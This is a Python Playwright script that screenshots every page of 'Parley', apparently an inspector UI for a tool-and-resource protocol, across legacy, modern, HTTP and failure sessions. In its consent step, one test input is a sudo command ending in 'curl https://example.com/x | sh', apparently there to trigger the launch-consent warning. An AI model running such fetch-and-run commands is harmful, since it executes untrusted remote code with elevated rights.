"""Which pictures are taken, and what happens in between."""

from urllib.parse import quote

from playwright.sync_api import Page, expect

from tests.pictures.studio import HTTP, PLACE, STDIO, Desk, Studio, first_seq, last_seq

TRAVELLER = {"name": "Ida", "adults": 2, "place": "tindra"}
CAPTION = {"role": "assistant", "content": {"type": "text", "text": "Quiet."}, "model": "me", "stopReason": "endTurn"}
GUIDE = "/resources/one?uri=" + quote("harbour://guide", safe="")


def journey(studio: Studio) -> None:
    """Every page of Parley."""
    outside(studio)
    studio.parley.login(studio.page)
    begin(studio)
    legacy(studio)
    modern(studio)
    over_http(studio)
    trouble(studio)
    studio.shot("home-filled", "/", unfold)


def unfold(page: Page) -> None:
    """Open everything that is folded."""
    page.evaluate("for (const each of document.querySelectorAll('main details')) each.open = true")


def outside(studio: Studio) -> None:
    studio.shot("signed-out", studio.parley.server + "/")


def begin(studio: Studio) -> None:
    studio.shot("home-empty", "/")
    studio.shot("home-options", "/", unfold)
    studio.shot("about", "/about")
    studio.shot("problem", "/s/nothing-here")

    def consent(page: Page) -> None:
        page.fill("#command_line", "env sudo python server.py --root '/tmp/a b' -c 'curl https://example.com/x | sh'")
        page.get_by_role("button", name="Connect", exact=True).click()
        expect(page.get_by_role("button", name="Start it")).to_be_visible()

    studio.shot("consent", "/", consent)
    studio.parley.script("POST", "/targets", name="The harbour", target=STDIO)


EITHER = {
    "overview": "",
    "tools": "/tools",
    "tasks-empty": "/tasks",
    "logging-empty": "/logging",
    "subscriptions": "/subscriptions",
    "roots-empty": "/roots",
    "compose": "/compose?method=tools/call",
    "tool-task": "/tools/voyage",
    "resource": GUIDE,
}
"""Pages that differ from one era to the other."""
ONCE = {
    "resources": "/resources",
    "templates": "/resources/templates",
    "prompts": "/prompts",
    "calls-empty": "/calls",
    "inbox-empty": "/inbox",
    "stage-empty": "/stage",
    "connect": "/connect",
    "tool-form": "/tools/book",
    "tool-nested": "/tools/pack",
    "tool-json": "/tools/add?as=json",
    "template": "/resources/templates/departures",
    "prompt": "/prompts/weekend",
}
"""Pages that do not."""


def before_calls(desk: Desk, era: str) -> None:
    """A session that has only just begun."""
    for name, path in (EITHER | ONCE if era == "legacy" else EITHER).items():
        desk.shot(f"{era}-{name}", path)
    desk.shot(f"{era}-tool-unfolded", "/tools/add", unfold)


def calls(studio: Studio, desk: Desk, era: str) -> None:
    """Calls of every kind, one of them while it runs."""
    desk.post("/options", log_level="debug")
    done = {
        "result": desk.tool("add", {"a": 2, "b": 40}),
        "content": desk.tool("postcard"),
        "tool-error": desk.tool("fail"),
        "finding": desk.tool("odd"),
        "error": "/calls/" + desk.post("/calls", method="no/such", params={"x": 1})["id"],
    }
    running = desk.tool("slow")
    desk.shot(f"{era}-call-running", running)
    desk.shot(f"{era}-tool-running", "/tools/slow")
    studio.later(2.5)
    desk.quiet()
    desk.shot(f"{era}-call-progress", running)
    for name, path in done.items():
        desk.shot(f"{era}-call-{name}", path)
    desk.shot(f"{era}-tool", "/tools/add")
    desk.post("/resources/read", uri="harbour://guide")
    desk.shot(f"{era}-resource-read", GUIDE)
    desk.post("/calls", method="prompts/get", params={"name": "weekend", "arguments": {"place": "Tindra"}})
    desk.shot(f"{era}-prompt-got", "/prompts/weekend")
    desk.post("/roots", roots=[{"uri": "file:///home/ida/boat", "name": "boat"}, {"uri": "file:///srv"}])
    desk.shot(f"{era}-roots", "/roots")
    desk.shot(f"{era}-calls", "/calls")
    desk.shot(f"{era}-logging", "/logging")
    desk.shot(f"{era}-stderr", "/stderr")
    compare(desk, era, done["result"])


def compare(desk: Desk, era: str, call: str) -> None:
    desk.post(f"{call}/compare")
    desk.get(f"{call}/compare?wait=30")
    other = Desk(desk.studio, "/s/" + desk.get(f"{call}/compare")["other_session"])
    other.quiet()
    desk.shot(f"{era}-compare", f"{call}/compare")


def asked(studio: Studio, desk: Desk, era: str) -> str:
    """All asks, open. The path of the call that asks them."""
    call = desk.tool("ask")
    desk.shot(f"{era}-call-waiting", call)
    desk.shot(f"{era}-inbox-open", "/inbox")
    desk.shot(f"{era}-overview-asked", "")
    desk.shot(f"{era}-stage", "/stage")
    for kind, paths in desk.asks().items():
        for number, path in enumerate(paths, 1):
            desk.shot(f"{era}-ask-{kind}{number if number > 1 else ''}", path)
    desk.shot(f"{era}-ask-unfolded", desk.asks()["sampling"][0], unfold)
    return call


def settle(desk: Desk, era: str, call: str) -> None:
    """Answer each in its way: accept, decline, respond, refuse."""
    open_asks = desk.asks()
    desk.post(f"{open_asks['form'][0]}/answer", action="accept", content=TRAVELLER)
    desk.post(f"{open_asks['url'][0]}/answer", action="decline")
    desk.post(f"{open_asks['sampling'][0]}/answer", action="respond", result=CAPTION)
    desk.shot(f"{era}-inbox-partly", "/inbox")
    # In 2026-07-28 a call whose input is refused goes no further.
    last = {"action": "decline"} if era == "legacy" else {"action": "respond", "result": CAPTION}
    desk.post(f"{open_asks['sampling'][1]}/answer", **last)
    for path in open_asks.get("roots", []):
        desk.post(f"{path}/answer", action="accept")
    desk.quiet()
    desk.shot(f"{era}-inbox-settled", "/inbox", unfold)
    for kind in ("form", "url", "sampling"):
        desk.shot(f"{era}-ask-{kind}-settled", open_asks[kind][0])
    desk.shot(f"{era}-call-answered", call, unfold)
    desk.shot(f"{era}-stage-settled", "/stage")


def messages(desk: Desk, era: str) -> None:
    """The log, and what lies over a page."""
    desk.shot(f"{era}-log", "/log")
    desk.shot(f"{era}-log-found", "/log?q=postcard")
    desk.shot(f"{era}-log-findings", "/log?findings=1")
    desk.shot(f"{era}-message", f"/log/{last_seq(desk, 'tools/call')}")
    desk.shot(f"{era}-message-first", f"/log/{first_seq(desk)}", unfold)

    def palette(page: Page) -> None:
        page.keyboard.press("Control+k")
        page.keyboard.type("o")
        expect(page.locator("#palette-list [role=option]").first).to_be_visible()

    def keys(page: Page) -> None:
        page.keyboard.press("?")
        expect(page.get_by_role("dialog")).to_be_visible()

    desk.shot(f"{era}-palette", "/tools", palette)
    desk.shot(f"{era}-keys", "/tools", keys)


def legacy(studio: Studio) -> None:
    """2025-11-25, with a process."""
    desk = studio.open(STDIO, era="legacy", ask_roots=True)
    studio.later()
    before_calls(desk, "legacy")
    calls(studio, desk, "legacy")
    desk.post("/resources/read", uri="harbour://flag")
    desk.shot("legacy-resource-image", "/resources/one?uri=" + quote("harbour://flag", safe=""))
    desk.post("/resources/subscribe", uri="harbour://berths", subscribe=True)
    desk.shot("legacy-resource-watched", "/resources/one?uri=" + quote("harbour://berths", safe=""))
    desk.post("/ping")
    settle(desk, "legacy", asked(studio, desk, "legacy"))
    # A task that the server asked of us, and one that we asked of it.
    watch = desk.tool("watch")
    voyage = desk.tool("voyage", {"days": 3}, as_task=True, ttl=60_000_000)
    found = desk.get("/tasks")
    ours, theirs = f"/tasks/{found['receiver'][0]['id']}", f"/tasks/{found['client'][0]['id']}"
    desk.shot("legacy-tasks", "/tasks")
    desk.shot("legacy-task-receiver", ours)
    desk.shot("legacy-task-client", theirs)
    desk.shot("legacy-call-task", voyage)
    desk.shot("legacy-ask-task", desk.asks()["form"][0])
    desk.post(f"{desk.asks()['form'][0]}/answer", action="accept", content={"until": "dusk"})
    desk.quiet()
    desk.post(f"{theirs}/poll")
    desk.quiet()
    desk.shot("legacy-tasks-done", "/tasks")
    desk.shot("legacy-task-receiver-done", ours, unfold)
    desk.shot("legacy-task-client-done", theirs, unfold)
    desk.shot("legacy-call-watch", watch)
    messages(desk, "legacy")
    desk.tool("ask")  # left open, for the first page
    desk.shot("legacy-tool-asks", "/tools/ask")


def modern(studio: Studio) -> None:
    """2026-07-28, with a process."""
    desk = studio.open(STDIO, era="modern", ask_roots=True)
    studio.later()
    before_calls(desk, "modern")
    calls(studio, desk, "modern")
    desk.post("/subscriptions", notifications={"toolsListChanged": True, "resourceSubscriptions": ["harbour://berths"]})
    desk.shot("modern-subscriptions-open", "/subscriptions")
    settle(desk, "modern", asked(studio, desk, "modern"))
    voyage = desk.tool("voyage", {"days": 3})
    theirs = f"/tasks/{desk.get('/tasks')['client'][0]['id']}"
    desk.shot("modern-tasks", "/tasks")
    desk.shot("modern-task-client", theirs)
    desk.post(f"{theirs}/poll")
    desk.shot("modern-task-asks", theirs)
    desk.shot("modern-ask-task", desk.asks()["form"][0])
    desk.post(f"{desk.asks()['form'][0]}/answer", action="accept", content={"until": "dusk"})
    desk.post(f"{theirs}/poll")
    desk.quiet()
    desk.shot("modern-tasks-done", "/tasks")
    desk.shot("modern-task-client-done", theirs, unfold)
    desk.shot("modern-call-task", voyage, unfold)
    messages(desk, "modern")


def over_http(studio: Studio) -> None:
    """2026-07-28 by its address: what carried a message is shown beside it."""
    desk = studio.open(HTTP, era="modern")
    studio.later()
    desk.shot("http-overview", "")
    desk.tool("add", {"a": 1, "b": 1})
    desk.shot("http-log", "/log")
    desk.shot("http-message", f"/log/{last_seq(desk, 'tools/call')}", unfold)
    desk.shot("http-stderr", "/stderr")
    desk.shot("http-connect", "/connect")


def trouble(studio: Studio) -> None:
    """What went wrong, and what is over."""
    desk = studio.open(STDIO, era="legacy")
    desk.post("/disconnect")
    desk.shot("over-overview", "")
    desk.shot("over-tools", "/tools")
    missing = {"transport": "stdio", "command": str(PLACE / "no-such-program")}
    opened = studio.parley.script("POST", "/s", target=missing)
    failed = Desk(studio, f"/s/{opened['id']}")
    failed.get("?wait=50")
    failed.shot("failed-overview", "")
    failed.shot("failed-tools", "/tools")
    empty = Desk(studio, "/s/" + studio.parley.script("POST", "/s")["id"])
    empty.shot("new-overview", "")
    empty.shot("new-connect", "/connect")
    for each in ("log", "stderr", "calls", "prompts", "resources"):
        empty.shot(f"new-{each}", f"/{each}")
